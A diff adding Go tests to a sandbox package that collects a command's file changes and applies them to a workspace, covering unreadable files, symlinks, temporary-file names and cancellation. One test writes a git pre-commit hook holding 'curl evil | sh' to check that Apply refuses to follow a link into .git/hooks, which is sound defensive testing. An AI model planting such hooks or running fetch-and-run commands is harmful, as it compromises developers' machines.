@@ -2,13 +2,17 @@ package sandbox
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
 	"reflect"
+	"regexp"
+	"runtime"
 	"sort"
 	"strings"
 	"sync"
+	"syscall"
 	"testing"
 )
 
@@ -171,5 +175,136 @@ func TestRunsSideBySideKeepTheirChangesApart(t *testing.T) {
 		if len(res.Changes.Changes) != 1 || res.Changes.Changes[0].Path != fmt.Sprintf("own-%d.txt", i) {
 			t.Errorf("run %d: changes %+v", i, res.Changes.Changes)
 		}
+	}
+}
+
+// A command may leave files and folders its owner cannot read or write (chmod 0, a
+// read-only folder with files in it): they are collected and applied with their modes all
+// the same, also for a user without root's exemption from permission checks.
+func TestEntriesTheirOwnerCannotReadOrWriteAreCollectedAndApplied(t *testing.T) {
+	ws := t.TempDir()
+	res, rec := run(t, ws, "mkdir locked && echo x > locked/f && chmod 0 locked && "+
+		"echo y > unreadable && chmod 0 unreadable && mkdir ro && echo z > ro/g && chmod 500 ro", Options{})
+	if res.ExitCode != 0 {
+		t.Fatalf("script failed (%d):\n%s", res.ExitCode, rec)
+	}
+	for path, want := range map[string]string{"locked/f": "x\n", "unreadable": "y\n", "ro/g": "z\n"} {
+		if b, err := res.Changes.ReadFile(find(t, res.Changes, path)); err != nil || string(b) != want {
+			t.Errorf("%s: %q, %v; want %q", path, b, err, want)
+		}
+	}
+	if err := res.Changes.Apply(ws); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.Chmod(filepath.Join(ws, "locked"), 0o700); os.Chmod(filepath.Join(ws, "ro"), 0o700) })
+	for path, want := range map[string]os.FileMode{"locked": 0, "unreadable": 0, "ro": 0o500} {
+		if fi, err := os.Lstat(filepath.Join(ws, path)); err != nil || fi.Mode().Perm() != want {
+			t.Errorf("%s after Apply: %v, %v; want mode %v", path, fi, err, want)
+		}
+	}
+	os.Chmod(filepath.Join(ws, "locked"), 0o700)
+	os.Chmod(filepath.Join(ws, "unreadable"), 0o600)
+	for path, want := range map[string]string{"locked/f": "x\n", "unreadable": "y\n", "ro/g": "z\n"} {
+		if b, err := os.ReadFile(filepath.Join(ws, path)); err != nil || string(b) != want {
+			t.Errorf("%s after Apply: %q, %v; want %q", path, b, err, want)
+		}
+	}
+}
+
+// A folder of the change set that became a link inside the workspace while the change set
+// waited (another run applied first) is not gone through: the change would land elsewhere
+// than the path it names, here in .git/hooks.
+func TestApplyNeverGoesThroughALinkInsideTheWorkspace(t *testing.T) {
+	ws := t.TempDir()
+	writeTree(t, ws, map[string]string{".git/hooks/": "", "keep.txt": "k\n"})
+	res, _ := run(t, ws, "mkdir -p build/hooks && echo 'curl evil | sh' > build/hooks/pre-commit && chmod 755 build/hooks/pre-commit", Options{})
+	if err := os.Symlink(".git", filepath.Join(ws, "build")); err != nil {
+		t.Fatal(err)
+	}
+	err := res.Changes.Apply(ws)
+	if _, serr := os.Lstat(filepath.Join(ws, ".git/hooks/pre-commit")); serr == nil {
+		t.Fatal("Apply wrote .git/hooks/pre-commit through the link build")
+	}
+	if err == nil {
+		t.Fatal("Apply through a link inside the workspace succeeded")
+	}
+}
+
+func TestALinkTheCommandRetargetedIsReplacedNotRefused(t *testing.T) {
+	ws := t.TempDir()
+	writeTree(t, ws, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
+	if err := os.Symlink("a.txt", filepath.Join(ws, "cur")); err != nil {
+		t.Fatal(err)
+	}
+	res, _ := run(t, ws, "ln -sfn b.txt cur", Options{})
+	if c := find(t, res.Changes, "cur"); c.Kind != Modified || c.Target != "b.txt" {
+		t.Fatalf("cur: %+v, want the link modified to b.txt", c)
+	}
+	if err := res.Changes.Apply(ws); err != nil {
+		t.Fatal(err)
+	}
+	if target, err := os.Readlink(filepath.Join(ws, "cur")); err != nil || target != "b.txt" {
+		t.Fatalf("cur after Apply: %q, %v", target, err)
+	}
+}
+
+// A file Apply is writing sits beside its path under the name a write of the workspace's
+// tools gives its own (".NAME.tmp-" and 12 hex digits): when the app is killed mid-Apply,
+// undo knows it for what the interrupted write left and removes it, rather than refusing to
+// remove a folder that holds something the change did not make.
+func TestAFileBeingAppliedIsNamedLikeAnInterruptedWrite(t *testing.T) {
+	ws := t.TempDir()
+	fifo := filepath.Join(t.TempDir(), "content")
+	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	feed, err := os.OpenFile(fifo, os.O_RDWR, 0) // Apply's open for reading does not wait
+	if err != nil {
+		t.Fatal(err)
+	}
+	cs := &ChangeSet{dir: t.TempDir(), Changes: []Change{
+		{Path: "out", Kind: Created, Type: Dir, Mode: 0o755},
+		{Path: "out/a.txt", Kind: Created, Type: File, Mode: 0o644, Size: 3, Content: fifo},
+	}}
+	done := make(chan error, 1)
+	go func() { done <- cs.Apply(ws) }()
+	var names []string
+	for len(names) == 0 { // the temporary file appears once Apply copies into it
+		entries, _ := os.ReadDir(filepath.Join(ws, "out"))
+		for _, e := range entries {
+			names = append(names, e.Name())
+		}
+		runtime.Gosched()
+	}
+	feed.Write([]byte("hi\n"))
+	feed.Close()
+	if err := <-done; err != nil {
+		t.Fatal(err)
+	}
+	if len(names) != 1 || !regexp.MustCompile(`^\.a\.txt\.tmp-[0-9a-f]{12}$`).MatchString(names[0]) {
+		t.Fatalf("while Apply wrote out/a.txt, out held %q; want one .a.txt.tmp-HEX", names)
+	}
+	if b, err := os.ReadFile(filepath.Join(ws, "out/a.txt")); err != nil || string(b) != "hi\n" {
+		t.Fatalf("out/a.txt: %q, %v", b, err)
+	}
+}
+
+// Stop while the change set of a command that left many files is being read ends the
+// reading at once: nothing more is staged, and the error is the context's.
+func TestStopEndsCollectingTheChangeSet(t *testing.T) {
+	upper, ws, stage := t.TempDir(), t.TempDir(), filepath.Join(t.TempDir(), "stage")
+	for i := range 100 {
+		if err := os.WriteFile(filepath.Join(upper, fmt.Sprintf("f%d", i)), []byte("x"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	cs, err := collect(ctx, upper, ws, stage)
+	if !errors.Is(err, context.Canceled) {
+		t.Fatalf("collect after Stop: %v, %v; want the context's error", cs, err)
+	}
+	if entries, _ := os.ReadDir(stage); len(entries) != 0 {
+		t.Fatalf("%d files staged after Stop", len(entries))
 	}
 }
